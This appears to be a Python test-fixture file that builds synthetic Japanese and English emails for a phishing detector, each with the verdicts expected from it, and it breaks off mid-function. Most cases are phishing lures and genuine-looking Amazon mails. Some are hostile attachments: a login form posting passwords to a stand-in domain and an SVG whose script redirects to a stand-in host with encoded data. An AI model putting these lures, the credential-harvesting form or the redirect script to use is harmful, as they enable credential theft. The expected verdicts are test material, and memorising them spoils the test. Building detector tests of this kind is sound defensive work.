"""Mails written against issue 11's fix by someone who had not read its tests: each with
the verdicts a careful reader would accept, decided before Honmono ever saw the mail.

Genuine Amazon mail is signed the way Amazon signs (its own domain plus amazonses.com),
with keys made here and answered by a fake DNS; a third party signs its own domain, whose
key Honmono never looks up. Every case is built in code, so the tests show the mail.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

from authkit import rsa_key, sign
from builders import mail_message

G, P, S, N = "genuine", "phishing", "suspicious", "not_amazon"
TO = "taro@example.jp"
HEADERS = [b"from", b"to", b"subject", b"date", b"message-id", b"mime-version",
           b"content-type"]
RECEIVED_SES = (
    "Return-Path: <0106019b-bounce@bounces.amazon.co.jp>\r\n"
    "Delivered-To: taro@example.jp\r\n"
    "Received: from e226-5.smtp-out.ap-northeast-1.amazonses.com "
    "(e226-5.smtp-out.ap-northeast-1.amazonses.com [23.251.226.5])\r\n"
    "\tby mx.example.jp (Postfix) with ESMTPS id 4Qx1;"
    " Wed, 03 Dec 2025 10:12:01 +0900 (JST)\r\n")
RECEIVED_OTHER = (
    "Delivered-To: taro@example.jp\r\n"
    "Received: from mail.sender.example (mail.sender.example [198.51.100.7])\r\n"
    "\tby mx.example.jp (Postfix) with ESMTPS id 7Hq2;"
    " Wed, 03 Dec 2025 10:12:01 +0900 (JST)\r\n")


@dataclass(frozen=True)
class Case:
    name: str
    section: str  # the section: 1 mention, 2 disguise, 4 relay, 5 forward, ...
    accept: frozenset[str]  # the verdicts a careful expert accepts, best first in `want`
    build: Callable[[], bytes]
    keys: tuple[str, ...] = ()  # domains whose keys the fake DNS answers
    ids: frozenset[str] = frozenset()  # evidence ids the mail must show


def mail(*, from_: str, subject: str, text: str | None = None, html: str | None = None,
         to: str = TO, extra: list[tuple[str, str]] | None = None,
         attach: list[tuple[bytes, str, str, str]] | None = None,
         related: list[tuple[bytes, str, str, str]] | None = None,
         cte: str | None = None) -> EmailMessage:
    """A MIME mail; ``attach`` and ``related`` are (data, maintype, subtype, filename)."""
    msg = mail_message(from_=from_, subject=subject, text=text, html=html, to=to,
                       date="Wed, 03 Dec 2025 01:12:00 +0000",
                       message_id="<0106019b-unseen@ap-northeast-1.amazonses.com>", cte=cte)
    for k, v in extra or []:
        msg[k] = v
    for data, main, sub, fname in related or []:
        html_part = msg.get_body(("html",)) or msg
        html_part.add_related(data, maintype=main, subtype=sub, filename=fname,
                              cid=f"<{fname}>", disposition="inline")
    for data, main, sub, fname in attach or []:
        msg.add_attachment(data, maintype=main, subtype=sub, filename=fname)
    return msg


def amazon_sign(msg: EmailMessage, domain: str = "amazon.co.jp",
                also: str = "amazonses.com") -> bytes:
    """Signed by the brand's domain and by SES, as it leaves SES."""
    raw = msg.as_bytes()
    raw = sign(raw, domain=domain, key=rsa_key(2048), include=HEADERS)
    return sign(raw, domain=also, key=rsa_key(2048), include=HEADERS)


def amazon_signed(msg: EmailMessage, domain: str = "amazon.co.jp",
                  also: str = "amazonses.com") -> bytes:
    """Signed as it leaves SES, then received from SES by the user's MX."""
    return RECEIVED_SES.encode() + amazon_sign(msg, domain, also)


def own_signed(msg: EmailMessage, domain: str | None = None) -> bytes:
    """A third party that signs its own domain (found from its From address)."""
    raw = msg.as_bytes()
    if domain is None:
        domain = str(msg["From"]).rsplit("@", 1)[1].rstrip(">")
    raw = sign(raw, domain=domain, key=rsa_key(2048), include=HEADERS)
    return RECEIVED_OTHER.encode() + raw


def unsigned(msg: EmailMessage) -> bytes:
    return RECEIVED_OTHER.encode() + msg.as_bytes()


# ----------------------------------------------------------------- small binary fixtures


def png(text: str = "") -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (240, 60), "white")
    ImageDraw.Draw(img).text((8, 20), text, fill="black")
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def qr_png(url: str) -> bytes:
    import segno

    buf = io.BytesIO()
    segno.make(url, error="m").save(buf, kind="png", scale=6, border=4)
    return buf.getvalue()


def pdf(link: str | None = None) -> bytes:
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    w = PdfWriter()
    w.add_blank_page(width=595, height=842)
    if link:
        w.add_annotation(0, Link(rect=(50, 700, 400, 740), url=link))
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


# ============================================================ §1 a mention is not a claim

def blog_notice() -> bytes:
    return own_signed(mail(
        from_="ガジェット日和 <noreply@gadget-biyori.jp>",
        subject="新着記事: Amazonギフトカードをチャージで買うと得する3つの理由",
        text=("ガジェット日和の新着記事のお知らせです。\n\n"
              "■ Amazonギフトカードをチャージで買うと得する3つの理由\n"
              "現金でチャージするとポイントが最大2.5%付きます。記事はこちら:\n"
              "https://gadget-biyori.jp/2025/12/amazon-gift-charge/\n\n"
              "紹介した商品(Amazonで見る): https://www.amazon.co.jp/dp/B0C1XYZ123?tag=gbiyori-22\n\n"
              "配信停止: https://gadget-biyori.jp/unsubscribe?u=8812\n")))


def shop_receipt_amazon_pay() -> bytes:
    return own_signed(mail(
        from_="北欧雑貨フィーカ <order@fika-zakka.jp>",
        subject="【北欧雑貨フィーカ】ご注文ありがとうございます (注文番号 FK-20251203-0042)",
        text=("田中 太郎 様\n\n"
              "この度は北欧雑貨フィーカをご利用いただき、誠にありがとうございます。\n"
              "以下の内容でご注文を承りました。\n\n"
              "注文番号: FK-20251203-0042\n"
              "商品: リネン ティータオル ×2  2,640円\n"
              "送料: 550円\n合計: 3,190円\n"
              "お支払い方法: Amazon Pay\n\n"
              "Amazon Pay でのお支払い状況は Amazon のアカウントサービスからも"
              "ご確認いただけます。\n\n"
              "ご注文履歴: https://fika-zakka.jp/mypage/orders\n"
              "北欧雑貨フィーカ 東京都世田谷区… TEL 03-6300-1234\n")))


def points_exchange() -> bytes:
    return own_signed(mail(
        from_="ポイントタウンズ事務局 <info@pointtowns.jp>",
        subject="ポイント交換完了のお知らせ (Amazonギフトカード 500円分)",
        text=("田中太郎 様\n\nいつもポイントタウンズをご利用いただきありがとうございます。\n"
              "以下のポイント交換が完了しました。\n\n"
              "交換先: Amazonギフトカード 500円分\n"
              "ギフト券番号: ABCD-EFGHIJ-KLMN\n"
              "有効期限: 2035年12月02日\n\n"
              "ギフト券番号は Amazon.co.jp のアカウントサービス「ギフトカードを登録する」から"
              "ご登録ください。\nhttps://www.amazon.co.jp/gc/redeem\n\n"
              "交換履歴: https://www.pointtowns.jp/exchange/history\n")))


def news_digest_en() -> bytes:
    return own_signed(mail(
        from_="TechPulse Daily <digest@techpulse.news>",
        subject="Amazon expands ads on Prime Video; AWS explains Tuesday's outage",
        text=("TechPulse Daily - Wednesday\n\n"
              "1. Amazon expands ads on Prime Video to six more countries\n"
              "https://techpulse.news/2025/12/03/prime-video-ads\n\n"
              "2. AWS explains Tuesday's us-east-1 outage\n"
              "https://techpulse.news/2025/12/03/aws-outage\n\n"
              "3. Amazon still wants to patent the Web\n"
              "https://techpulse.news/2025/12/03/amazon-patent\n\n"
              "You are receiving this because you subscribed at techpulse.news.\n"
              "Unsubscribe: https://techpulse.news/u/91ab\n")))


def bank_warning() -> bytes:
    return own_signed(mail(
        from_="みらい銀行 <info@mirai-bank.co.jp>",
        subject="【注意喚起】Amazonを装ったフィッシングメールにご注意ください",
        text=("みらい銀行をご利用のお客様へ\n\n"
              "Amazonを装い「お客様のアカウントを一時停止しました」「お支払い方法を更新してください」"
              "などと偽ってカード番号を入力させるフィッシングメールが多数確認されています。\n"
              "メール内のリンクは開かず、Amazonの公式アプリから直接ご確認ください。\n"
              "当行がメールでカード番号や暗証番号をお尋ねすることはありません。\n\n"
              "詳しくは当行ウェブサイトをご覧ください。\n"
              "https://www.mirai-bank.co.jp/security/phishing/\n")))


def isp_warning() -> bytes:
    return own_signed(mail(
        from_="ネットワン サポートセンター <support@netone.ne.jp>",
        subject="Amazon・クレジットカード会社をかたるフィッシングにご注意ください",
        text=("ネットワン会員のみなさまへ\n\n"
              "最近、Amazon.co.jp やクレジットカード会社をかたり、アカウント情報を盗もうとする"
              "メールが増えています。件名の例:\n"
              "・【重要】Amazonアカウントの一時停止について\n"
              "・Amazonプライムの自動更新ができませんでした\n\n"
              "不審なメールは開かずに削除してください。迷惑メールフィルタの設定方法:\n"
              "https://support.netone.ne.jp/mail/filter\n")))


def friend_forwards_order() -> bytes:
    return own_signed(mail(
        from_="佐藤 花子 <hanako.sato@example.ne.jp>",
        subject="Fwd: Amazon.co.jp ご注文の確認",
        text=("太郎さん\n\nお母さんへのプレゼント、これで注文しておいたよ。届いたら教えてね。\n\n"
              "---------- Forwarded message ---------\n"
              "From: Amazon.co.jp <auto-confirm@amazon.co.jp>\n"
              "Date: 2025年12月2日(火) 21:14\n"
              "Subject: Amazon.co.jp ご注文の確認\n"
              "To: <hanako.sato@example.ne.jp>\n\n"
              "佐藤 花子 様\n\n"
              "Amazon.co.jpをご利用いただき、ありがとうございます。\n"
              "注文番号: 250-1234567-7654321\n"
              "お届け予定: 12月4日(木)\n"
              "注文内容を表示: https://www.amazon.co.jp/gp/your-account/order-details?orderID=250-1234567-7654321\n"
              "Amazon.co.jp でまたのご利用をお待ちしております。\n")))


def friend_quotes_order() -> bytes:
    return own_signed(mail(
        from_="鈴木 一郎 <ichiro@example.org>",
        subject="Re: 誕生日プレゼントの件",
        text=("了解、ありがとう！届くのを楽しみにしてます。\n\n"
              "2025年12月2日(火) 22:01 田中太郎 <taro@example.jp>:\n"
              "> 注文したよ。確認メールの一部を貼っておくね。\n"
              "> Amazon.co.jpをご利用いただき、ありがとうございます。\n"
              "> お客様の商品は発送されました。\n"
              "> 配送状況を確認: https://www.amazon.co.jp/gp/css/shiptrack/view.html\n")))


def forwarded_phish_question() -> bytes:
    return own_signed(mail(
        from_="母 <mother.tanaka@example.ne.jp>",
        subject="Fwd: 【重要】お客様のアカウントは一時停止されました",
        text=("太郎へ\nこんなメールが来たけど本物？まだ何も押していません。\n\n"
              "-------- 転送メッセージ --------\n"
              "差出人: Amaz\u200bon.co.jp <account-security@acc-verify-center.com>\n"
              "件名: 【重要】お客様のアカウントは一時停止されました\n"
              "日付: 2025/12/02 19:44\n\n"
              "お客様のアカウントで異常なログインが検出されたため、アカウントを一時停止しました。\n"
              "24時間以内に以下からお支払い情報を更新してください。\n"
              "https://acc-verify-center.com/jp/signin\n")))


def forwarded_phish_plain_inline() -> bytes:
    """Written after the attached-mail finding: the same scam forwarded inline, its sender
    written plainly (no disguise), by a sender who signs its own domain."""
    return own_signed(mail(
        from_="母 <mother.tanaka@example.ne.jp>",
        subject="Fwd: お支払い方法の確認",
        text=("太郎へ\nこれ本物？\n\n"
              "-------- 転送メッセージ --------\n"
              "差出人: Amazon.co.jp <info@amazon-payment-jp.com>\n"
              "件名: お支払い方法の確認\n\n"
              "お支払い方法を確認できませんでした。以下から更新してください。\n"
              "https://amazon-payment-jp.com/update\n")))


def survey_prize() -> bytes:
    return own_signed(mail(
        from_="リサーチパネル事務局 <survey@research-panel.jp>",
        subject="【抽選で100名様にAmazonギフトカード1,000円分】年末のお買い物に関するアンケート",
        text=("リサーチパネル会員のみなさま\n\n年末のお買い物に関するアンケートにご協力ください。\n"
              "回答者の中から抽選で100名様にAmazonギフトカード(1,000円分)をプレゼントします。\n\n"
              "回答はこちら(約5分): https://research-panel.jp/s/2025w48\n"
              "回答期限: 12月10日\n")))


def deals_newsletter_en() -> bytes:
    return own_signed(mail(
        from_="DealScout <deals@dealscout.com>",
        subject="Today's top Amazon deals: Kindle Paperwhite 35% off, Echo Dot $22",
        html=("<p>Hi Taro, here are today's picks:</p>"
              "<p><a href='https://www.amazon.com/dp/B0CFPJYX7P?tag=dealscout-20'>"
              "Kindle Paperwhite (2024) - $104.99</a></p>"
              "<p><a href='https://www.amazon.com/dp/B09B8V1LZ3?tag=dealscout-20'>"
              "Echo Dot (5th Gen) - $22.99</a></p>"
              "<p><a href='https://dealscout.com/deals/today'>See all deals</a> | "
              "<a href='https://dealscout.com/unsubscribe?id=77'>Unsubscribe</a></p>"
              "<p>As an Amazon Associate, DealScout earns from qualifying purchases.</p>")))


def forwarded_phish_en_cyrillic() -> bytes:
    return own_signed(mail(
        from_="Mike Chen <mike.chen@example.com>",
        subject="Fwd: Your account has been locked",
        text=("Taro, is this legit? Got it this morning.\n\n"
              "---------- Forwarded message ---------\n"
              "From: Am\u0430zon Support <support@secure-account-help.net>\n"
              "Date: Tue, Dec 2, 2025 at 8:12 AM\n"
              "Subject: Your account has been locked\n\n"
              "We detected unusual activity on your account. Verify your identity within 24 hours "
              "or your account will be closed:\n"
              "https://secure-account-help.net/verify\n"), to="taro@example.jp"))


# ======================================================== §2 the brand as people read it

def disguise_digit_zero() -> bytes:
    return unsigned(mail(
        from_="Amaz0n.co.jp <no-reply@jp-member-service.com>",
        subject="お支払い方法の確認が必要です",
        text=("お客様のお支払い方法に問題が発生しました。\n"
              "ご注文を継続するには、以下からカード情報を更新してください。\n"
              "https://jp-member-service.com/update\n")))


def disguise_spaced() -> bytes:
    return unsigned(mail(
        from_="A m a z o n <info@kaiin-center.net>",
        subject="アカウント情報の更新のお願い",
        text=("お客様のアカウントの有効期限が切れています。\n"
              "アカウントを引き続きご利用いただくには、24時間以内に情報を更新してください。\n"
              "https://kaiin-center.net/account\n")))


def disguise_katakana() -> bytes:
    return unsigned(mail(
        from_="アマゾン カスタマーサービス <support@cs-helpdesk.jp>",
        subject="アマゾンアカウントがロックされました",
        text=("いつもご利用ありがとうございます。\n"
              "不正なログインが確認されたため、アマゾンアカウントをロックしました。\n"
              "ロック解除はこちら: https://cs-helpdesk.jp/unlock\n")))


def disguise_joined() -> bytes:
    return unsigned(mail(
        from_="AmazonPrimeSupport <billing@prime-members.info>",
        subject="PrimeVideo会員費のお支払いに失敗しました",
        text=("会員費のお支払いができませんでした。\n"
              "特典のご利用を続けるには、お支払い情報を更新してください。\n"
              "https://prime-members.info/billing\n")))


def disguise_image_only() -> bytes:
    html = ("<html><body><a href='https://account-check-jp.com/session'>"
            "<img src='cid:amazon_banner.png' alt='Amazon.co.jp アカウントの確認' "
            "width='600' height='300'></a></body></html>")
    return unsigned(mail(
        from_="Customer Center <info@mx-mailer.biz>",
        subject="ご確認ください",
        html=html,
        related=[(png("amazon"), "image", "png", "amazon_banner.png")]))


def disguise_rn() -> bytes:
    return unsigned(mail(
        from_="Arnazon Security <security@alerts-account.net>",
        subject="Unusual sign-in to your account",
        text=("Someone signed in to your account from a new device (Moscow, RU).\n"
              "If this wasn't you, secure your account now:\n"
              "https://alerts-account.net/secure\n")))


def disguise_dotted_subject() -> bytes:
    return unsigned(mail(
        from_="カスタマーセンター <center@jp-support-desk.com>",
        subject="【A.m.a.z.o.n】お客様のアカウント情報を更新してください",
        text=("いつもご利用ありがとうございます。\n"
              "セキュリティ強化のため、お客様情報の再確認をお願いしております。\n"
              "https://jp-support-desk.com/verify\n")))


def disguise_fullwidth() -> bytes:
    return unsigned(mail(
        from_="Ａｍａｚｏｎ．ｃｏ．ｊｐ <noreply@order-info.top>",
        subject="ご注文のお支払い方法を確認できません",
        text=("ご注文の商品を発送できません。お支払い方法を確認してください。\n"
              "https://order-info.top/pay\n")))


def generic_name_speaks_as_amazon() -> bytes:
    return unsigned(mail(
        from_="アカウント管理チーム <notice@secure-notice.org>",
        subject="アカウント確認のお願い",
        text=("Amazonのアカウントに異常なログインがありました。\n"
              "お客様のAmazonアカウントを保護するため、以下のリンクから本人確認を行ってください。\n"
              "https://secure-notice.org/check\n")))


def disguise_hyphenated_id() -> bytes:
    return unsigned(mail(
        from_="amazon-prime-billing <billing@renew-service.net>",
        subject="Your membership payment was declined",
        text=("We couldn't charge your card for your membership.\n"
              "Update your payment method to keep your benefits:\n"
              "https://renew-service.net/update\n")))


# ============================================ §4 sent by Amazon, written by a third party

SELLER_BLOCK = ("--------------------------- メッセージ: ---------------------------\n\n{}\n\n"
                "--------------------------- メッセージの終わり ---------------------------\n")


def seller_message(text: str) -> bytes:
    return amazon_signed(mail(
        from_="Kirakuya Store - Amazon Marketplace <6kx9s2v1r7tqdq@marketplace.amazon.co.jp>",
        subject="注文 250-2345678-1234567 に関する出品者からのお問い合わせ",
        text=("出品者 Kirakuya Store からのメッセージです。\n\n"
              "注文番号: 250-2345678-1234567\n商品: USB-C ケーブル 2m\n\n"
              + SELLER_BLOCK.format(text) +
              "\nこのメッセージに返信するには、このEメールに返信してください。\n"
              "https://www.amazon.co.jp/gp/help/customer/display.html?nodeId=201910700\n")))


def seller_clean() -> bytes:
    return seller_message("ご注文ありがとうございます。本日ヤマト運輸にて発送いたしました。"
                          "到着まで今しばらくお待ちください。")


def seller_lure_line() -> bytes:
    return seller_message("申し訳ございません。在庫切れのためご注文をキャンセルいたしました。\n"
                          "Amazonのシステムでは返金処理ができないため、LINEで担当者を追加してください。\n"
                          "LINE ID: refund_jp88")


def seller_lure_phone_next_line() -> bytes:
    return seller_message("お支払いに問題があり、返金手続きが必要です。"
                          "至急下記までご連絡ください。\n"
                          "返金窓口: 050-3186-4421(24時間受付)")


def giftcard(giver: str, message: str) -> bytes:
    return amazon_signed(mail(
        from_="Amazon.co.jp <gc-orders@gc.email.amazon.co.jp>",
        subject=f"{giver}さんからAmazonギフトカードが届きました",
        text=(f"{giver}さんからAmazonギフトカードが届きました\n\n"
              f"メッセージ:\n{message}\n\n"
              "金額: ¥15\nギフト券番号: AQ7Z-K3M9PL-XT4R\n\n"
              "今すぐ登録: https://www.amazon.co.jp/gc/redeem?claimCode=AQ7Z-K3M9PL-XT4R\n\n"
              "Amazon.co.jp\nhttps://www.amazon.co.jp/\n")))


def giftcard_clean() -> bytes:
    return giftcard("佐藤花子", "お誕生日おめでとう！好きな本を買ってね。")


def giftcard_lure() -> bytes:
    return giftcard("Amazonセキュリティ部",
                    "お客様のアカウントで不正利用を検知しました。アカウント保護のため、"
                    "至急 0120-963-771 までお電話ください。")


def sns(display: str, body: str, subject: str = "AWS Notification Message") -> bytes:
    return amazon_signed(mail(
        from_=f"{display} <no-reply@sns.amazonaws.com>",
        subject=subject,
        text=(body + "\n\n--\nIf you wish to stop receiving notifications from this topic, "
              "please click or visit the link below to unsubscribe:\n"
              "https://sns.ap-northeast-1.amazonaws.com/unsubscribe.html?SubscriptionArn="
              "arn:aws:sns:ap-northeast-1:123456789012:alerts:8a1c&Endpoint=taro@example.jp\n\n"
              "Please do not reply directly to this email. If you have any questions or "
              "comments regarding this email, please contact us at "
              "https://aws.amazon.com/support\n")), domain="sns.amazonaws.com")


def sns_lure() -> bytes:
    return sns("Amazon Account Security",
               "Your Amazon account has been placed on hold due to suspicious purchases.\n"
               "To cancel the order of $1,249.00 and restore access, call our support "
               "team now:\n+1 (888) 410-2291")


def sns_alarm_clean() -> bytes:
    return sns("AWS Notifications",
               "You are receiving this email because your Amazon CloudWatch Alarm "
               "\"HighCPU-web01\" in the Asia Pacific (Tokyo) region has entered the ALARM "
               "state, because \"Threshold Crossed: 1 datapoint [92.1] was greater than the "
               "threshold (80.0).\"\n\nView this alarm in the AWS Management Console:\n"
               "https://console.aws.amazon.com/cloudwatch/home?region=ap-northeast-1#alarm:"
               "alarmFilter=ANY;name=HighCPU-web01",
               subject='ALARM: "HighCPU-web01" in Asia Pacific (Tokyo)')


def amazon_pay_receipt() -> bytes:
    return amazon_signed(mail(
        from_="Amazon Pay <no-reply@amazon.co.jp>",
        subject="Amazon Pay: 北欧雑貨フィーカ でのお支払い",
        text=("田中太郎 様\n\nAmazon Pay をご利用いただきありがとうございます。\n"
              "以下のお支払いを承りました。\n\n"
              "販売事業者: 北欧雑貨フィーカ\n"
              "販売事業者の電話番号: 03-6300-1234\n"
              "販売事業者のEメールアドレス: order@fika-zakka.jp\n"
              "お支払い金額: ¥3,190\n"
              "お支払い日: 2025/12/03\n\n"
              "お支払い履歴はこちら: https://pay.amazon.co.jp/\n")))


# ========================================================= §5 forwards of genuine mail

def shipped_text(name: str = "田中太郎") -> str:
    return (f"{name} 様\n\nAmazon.co.jp をご利用いただき、ありがとうございます。\n"
            "お客様の商品を発送しました。\n\n"
            "注文番号: 250-3456789-2345678\n"
            "商品: アイリスオーヤマ サーキュレーター アイ ボール\n"
            "配送状況を確認: https://www.amazon.co.jp/gp/your-account/ship-track?orderId=250-3456789-2345678\n\n"
            "このEメールアドレスは配信専用です。\n"
            "このEメールのリンクは「https://www.amazon.co.jp」で始まります。\n")


def list_footer_forward() -> bytes:
    msg = mail(from_="Amazon.co.jp <shipment-tracking@amazon.co.jp>",
               subject="Amazon.co.jp ご注文の商品を発送しました", text=shipped_text(),
               to="family@lists.tanaka-home.jp", cte="8bit")
    signed = amazon_sign(msg)
    body_end = signed.rstrip(b"\r\n") + (
        b"\r\n\r\n_______________________________________________\r\n"
        b"family mailing list\r\nhttps://lists.tanaka-home.jp/mailman/listinfo/family\r\n")
    top = ("Delivered-To: taro@example.jp\r\n"
           "Authentication-Results: mx.example.jp; dkim=fail (body hash did not verify) "
           "header.d=amazon.co.jp; dmarc=fail header.from=amazon.co.jp\r\n"
           "Received: from lists.tanaka-home.jp (lists.tanaka-home.jp [203.0.113.40])\r\n"
           "\tby mx.example.jp (Postfix) with ESMTPS id 9Zk1;"
           " Wed, 03 Dec 2025 10:13:00 +0900 (JST)\r\n"
           "List-Id: Tanaka family <family.lists.tanaka-home.jp>\r\n"
           "List-Unsubscribe: <https://lists.tanaka-home.jp/mailman/options/family>\r\n"
           "Sender: family-bounces@lists.tanaka-home.jp\r\n"
           "Received: from e226-5.smtp-out.ap-northeast-1.amazonses.com "
           "(e226-5.smtp-out.ap-northeast-1.amazonses.com [23.251.226.5])\r\n"
           "\tby lists.tanaka-home.jp (Postfix) with ESMTPS id 1Ab;"
           " Wed, 03 Dec 2025 10:12:01 +0900 (JST)\r\n")
    return top.encode() + body_end


def _group_rewrite(orig_from: str, text: str, amazon_sig: bool) -> bytes:
    """A Google-Groups-style hop: From rewritten, X-Original-From kept, group signs too."""
    original = mail(from_=orig_from, subject="Amazon.co.jp ご注文の商品を発送しました",
                    text=text, to="family@googlegroups.com")
    raw = original.as_bytes()
    if amazon_sig:
        raw = sign(raw, domain="amazon.co.jp", key=rsa_key(2048), include=HEADERS)
        raw = sign(raw, domain="amazonses.com", key=rsa_key(2048), include=HEADERS)
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    out: list[bytes] = []
    for line in lines:
        if line.lower().startswith(b"from:"):
            out.append("From: 'Amazon.co.jp' via 田中家 <family@googlegroups.com>".encode())
            out.append(f"X-Original-From: {orig_from}".encode())
            out.append(f"Reply-To: {orig_from}".encode())
        else:
            out.append(line)
    out.append(b"List-Id: <family.googlegroups.com>")
    out.append(b"Mailing-list: list family@googlegroups.com;"
               b" contact family+owners@googlegroups.com")
    rewritten = b"\r\n".join(out) + b"\r\n\r\n" + body
    rewritten = sign(rewritten, domain="googlegroups.com", key=rsa_key(2048), include=HEADERS)
    return (b"Delivered-To: taro@example.jp\r\n"
            b"Received: from mail-sor-f69.google.com (mail-sor-f69.google.com [209.85.220.69])"
            b"\r\n\tby mx.example.jp (Postfix) with ESMTPS id 5Pq;"
            b" Wed, 03 Dec 2025 10:13:30 +0900 (JST)\r\n") + rewritten


def group_rewrite_genuine() -> bytes:
    return _group_rewrite("Amazon.co.jp <shipment-tracking@amazon.co.jp>", shipped_text(), True)


def group_rewrite_forged() -> bytes:
    text = ("田中太郎 様\n\nお客様のお支払い方法が承認されませんでした。\n"
            "24時間以内に更新しない場合、ご注文はキャンセルされます。\n"
            "https://amazon-payment-update.com/jp\n")
    return _group_rewrite("Amazon.co.jp <shipment-tracking@amazon.co.jp>", text, False)


# ============================================================== §6 attachments

LOGIN_FORM = (b"<!DOCTYPE html><html><head><title>Amazon Sign-In</title></head><body>"
              b"<form action='https://signin-amazon-jp.com/ap/post' method='post'>"
              b"<input name='email'><input type='password' name='password'>"
              b"<button>Sign in</button></form></body></html>")


def attach_html_as_binary() -> bytes:
    return unsigned(mail(
        from_="Amazon.co.jp <service@jp-amazon-notice.com>",
        subject="Amazon.co.jp: アカウントの確認が必要です",
        text=("お客様のアカウントを確認できませんでした。\n"
              "添付ファイルを開いて、サインインしてアカウント情報を確認してください。\n"),
        attach=[(LOGIN_FORM, "application", "octet-stream", "Amazon_verify.htm")]))


def attach_svg_redirect() -> bytes:
    svg = (b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'>"
           b"<script type='text/javascript'><![CDATA[window.location.href="
           b"'https://invoice-view.click/amazon/'+atob('dGFybw==');]]></script></svg>")
    return unsigned(mail(
        from_="Amazon 請求センター <billing@invoice-center.jp>",
        subject="Amazonプライム 請求書のご案内",
        text="Amazonプライム会費の請求書を添付いたします。ご確認ください。\n",
        attach=[(svg, "image", "svg+xml", "請求書_20251203.svg")]))


def qr_scam() -> bytes:
    html = ("<p>Amazonをご利用いただきありがとうございます。</p>"
            "<p>お客様のアカウントの認証期限が切れました。下のQRコードをスマートフォンで"
            "読み取って、本人確認を完了してください。</p>"
            "<p><img src='cid:qr.png' alt='QR'></p>")
    return unsigned(mail(
        from_="Amazon.co.jp <no-reply@auth-member-jp.com>",
        subject="【要対応】Amazonアカウントの本人確認",
        html=html,
        related=[(qr_png("https://auth-member-jp.com/q/8812"), "image", "png", "qr.png")]))


def pdf_link_scam() -> bytes:
    return unsigned(mail(
        from_="Amazon Business <invoice@amazon-biz-billing.com>",
        subject="Amazon Business: 未払い請求書のお知らせ",
        text=("Amazon Business をご利用いただきありがとうございます。\n"
              "お支払い期限を過ぎた請求書があります。添付のPDFからお支払いください。\n"),
        attach=[(pdf("https://amazon-biz-billing.com/pay/8812"), "application", "pdf",
                 "invoice_8812.pdf")]))


def pdf_named_html_form() -> bytes:
    return unsigned(mail(
        from_="Amazon <no-reply@secure-orders.jp>",
        subject="ご注文の領収書 #250-9988776-1122334",
        text="ご注文の領収書を添付しました。内容をご確認ください。\n",
        attach=[(LOGIN_FORM, "application", "pdf", "領収書_250-9988776.pdf")]))


def friend_pdf_receipt() -> bytes:
    return own_signed(mail(
        from_="佐藤 花子 <hanako.sato@example.ne.jp>",
        subject="立て替えの件",
        text=("太郎さん\nこの前 Amazon で買ったプリンターのインク代、領収書のPDFを送ります。"
              "半分の2,150円お願いします。\n"),
        attach=[(pdf(), "application", "pdf", "Amazon領収書.pdf")]))


# ============================================================ §7 smaller rules

def callback_next_line() -> bytes:
    return unsigned(mail(
        from_="Prime会員センター <billing@mail-notice-center.com>",
        subject="Amazonプライム年会費の請求について",
        text=("Amazonプライムの年会費 39,800円 がお客様のカードに請求されました。\n"
              "ご契約に心当たりがない場合、キャンセルのお手続きが必要です。\n"
              "下記までお電話ください。\n"
              "キャンセル窓口: 050-5211-0937 (受付 9:00-21:00)\n")))


def small_fee() -> bytes:
    return unsigned(mail(
        from_="Amazon配送センター <no-reply@delivery-center-jp.com>",
        subject="【Amazon】お荷物のお届けについて",
        text=("お届け先住所が不明のため、お荷物を保管しております。\n"
              "再配達料金 330円 をお支払いいただくと、再配達の手続きが完了します。\n"
              "https://delivery-center-jp.com/redeliver\n")))


def genuine_order_receipt() -> bytes:
    return amazon_signed(mail(
        from_="Amazon.co.jp <auto-confirm@amazon.co.jp>",
        subject="Amazon.co.jp ご注文の確認",
        text=("田中太郎 様\n\nAmazon.co.jp をご利用いただき、ありがとうございます。\n"
              "ご注文を承りました。\n\n"
              "注文番号: 250-4567890-3456789\n"
              "商品: ブラザー 純正インクカートリッジ 4色パック\n"
              "販売: 文具のまるや\n"
              "販売事業者の電話番号: 06-6123-4567\n"
              "ご請求額: ¥4,300\n\n"
              "注文内容を確認: https://www.amazon.co.jp/gp/css/your-orders-access\n\n"
              "このEメールのリンクは「https://www.amazon.co.jp」で始まります。\n")))


def genuine_otp() -> bytes:
    return amazon_signed(mail(
        from_="Amazon.co.jp <account-update@amazon.co.jp>",
        subject="Amazon.co.jp: サインインを試みました",
        text=("田中太郎 様\n\n"
              "お客様のアカウントへのサインインが試みられました。\n"
              "これがお客様ご本人であれば、次のワンタイムパスワードをサインイン画面に入力してください。\n\n"
              "683041\n\n"
              "このコードは10分間有効です。このコードを誰とも共有しないでください。"
              "Amazonがこのコードをお尋ねすることはありません。\n\n"
              "ご本人でない場合は、パスワードを変更してください: "
              "https://www.amazon.co.jp/a/c/r/AbC123xYz\n")))


def genuine_romanised_greeting() -> bytes:
    return amazon_signed(mail(
        from_="Amazon.co.jp <shipment-tracking@amazon.co.jp>",
        subject="Amazon.co.jp ご注文の商品を発送しました",
        text=shipped_text("Taro Tanaka")))


def genuine_amazon_com_en() -> bytes:
    return amazon_signed(mail(
        from_='"Amazon.com" <shipment-tracking@amazon.com>',
        subject='Your Amazon.com order of "Anker Nano Charger..." has shipped!',
        text=("Hello Taro Tanaka,\n\n"
              "Your package is on the way. Track your package:\n"
              "https://www.amazon.com/gp/your-account/ship-track?orderId=113-4455667-7788990\n\n"
              "Order #113-4455667-7788990\nArriving: Friday, December 5\n\n"
              "We hope to see you again soon.\nAmazon.com\n")), domain="amazon.com")


def genuine_prime_video() -> bytes:
    return amazon_signed(mail(
        from_="Prime Video <no-reply@primevideo.com>",
        subject="Prime Video: 新しいデバイスが登録されました",
        text=("田中太郎 様\n\nお客様の Prime Video アカウントに新しいデバイス"
              "(Fire TV Stick)が登録されました。\n"
              "お心当たりがない場合は、デバイスの管理から登録を解除してください。\n"
              "https://www.primevideo.com/settings/devices\n")), domain="primevideo.com")


def genuine_audible() -> bytes:
    return amazon_signed(mail(
        from_="Audible <no-reply@audible.co.jp>",
        subject="Audible: ご購入ありがとうございます",
        text=("田中太郎 様\n\nAudible をご利用いただきありがとうございます。\n"
              "ご購入のタイトル: 三体\n"
